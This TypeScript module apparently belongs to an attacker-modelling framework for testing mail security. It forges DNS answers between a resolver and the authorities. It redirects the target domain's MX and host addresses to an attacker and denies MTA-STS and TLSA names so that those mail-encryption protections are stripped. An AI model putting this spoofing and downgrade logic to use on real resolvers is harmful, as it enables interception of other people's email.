/** Between a resolver and the authorities: writes the answers itself. It cannot sign them. RFC 3833 §2.1. */
import { Result, Schema } from "effect"
import { decodeMessage, encodeMessage } from "../../protocol/dns/codec.ts"
import type { Message, Question } from "../../protocol/dns/message.ts"
import { name } from "../../protocol/dns/name.ts"
import { parseRdata } from "../../protocol/dns/presentation.ts"
import { classIn, rcodes, typeCodes, typeName } from "../../protocol/dns/types.ts"
import { parameter } from "../../protocol/parameter.ts"
import type { Arsenal } from "../arsenal.ts"
import { capability } from "../capability.ts"

const forgeries = ["mx", "mx-address", "web-address", "mta-sts", "tlsa"] as const
type Forgery = (typeof forgeries)[number]

export const dnsForge = capability({
  id: "dns-forge",
  title: "answer in place of the authorities, without their keys",
  parameters: Schema.Struct({
    forge: parameter(
      Schema.Array(Schema.Literals(forgeries)).annotate({
        description:
          "mx: the target's MX record names the attacker's host; mx-address: the target's MX hosts have the attacker's address; web-address: so has every other host of the domain, and the domain itself; mta-sts and tlsa: the name does not exist"
      }),
      [...forgeries]
    ),
    ttlSeconds: parameter(
      Schema.Int.check(Schema.isBetween({ minimum: 0, maximum: 2_147_483_647 })).annotate({
        description: "TTL of forged answers, in seconds"
      }),
      300
    )
  }),

  menu: ({ forge, ttlSeconds }, arsenal) => ({
    dns: ({ position, query }) => {
      // On the way to the sender's own stub stands another capability.
      if (position !== "resolver to authority") return []
      const asked = Result.getOrUndefined(decodeMessage(query))
      const question = asked?.questions[0]
      if (asked === undefined || question === undefined) return []
      const lie = forge
        .map((forgery) => lies[forgery](question, arsenal))
        .find((found) => found !== undefined)
      if (lie === undefined) return []
      return [
        {
          does: `forge the answer to ${question.name.toString()} ${typeName(question.type)}: ${lie.says}`,
          verdict: { _tag: "Replace", reply: encodeMessage(writeReply(asked, question, lie, ttlSeconds)) }
        }
      ]
    }
  })
})

interface Lie {
  readonly says: string
  /** RDATA in presentation format; absent denies that the name exists. */
  readonly data?: string
}

type Liar = (question: Question, arsenal: Arsenal) => Lie | undefined

const lies: Readonly<Record<Forgery, Liar>> = {
  mx: (question, { targetDomain, mxHost }) =>
    question.type === typeCodes.MX && question.name.equals(name(targetDomain))
      ? { says: `the mail exchanger is ${mxHost}`, data: `0 ${mxHost}.` }
      : undefined,

  "mx-address": (question, { targetMxHosts, address }) =>
    question.type === typeCodes.A && targetMxHosts.some((host) => question.name.equals(name(host)))
      ? { says: `the address is ${address}`, data: address }
      : undefined,

  "web-address": (question, { targetDomain, targetMxHosts, address }) =>
    question.type === typeCodes.A &&
    question.name.isAtOrBelow(name(targetDomain)) &&
    !targetMxHosts.some((host) => question.name.equals(name(host)))
      ? { says: `the address is ${address}`, data: address }
      : undefined,

  "mta-sts": (question, { targetDomain }) =>
    question.name.equals(name(`_mta-sts.${targetDomain}`)) ? { says: "no such name" } : undefined,

  tlsa: (question) => (question.type === typeCodes.TLSA ? { says: "no such name" } : undefined)
}

const writeReply = (asked: Message, question: Question, lie: Lie, ttlSeconds: number): Message => ({
  ...asked,
  isResponse: true,
  authoritative: true,
  rcode: lie.data === undefined ? rcodes.NXDOMAIN : rcodes.NOERROR,
  answers:
    lie.data === undefined
      ? []
      : [
          {
            owner: question.name,
            type: question.type,
            class: classIn,
            ttlSeconds,
            rdata: Result.getOrThrow(parseRdata(question.type, lie.data))
          }
        ],
  authorities: [],
  additionals: []
})
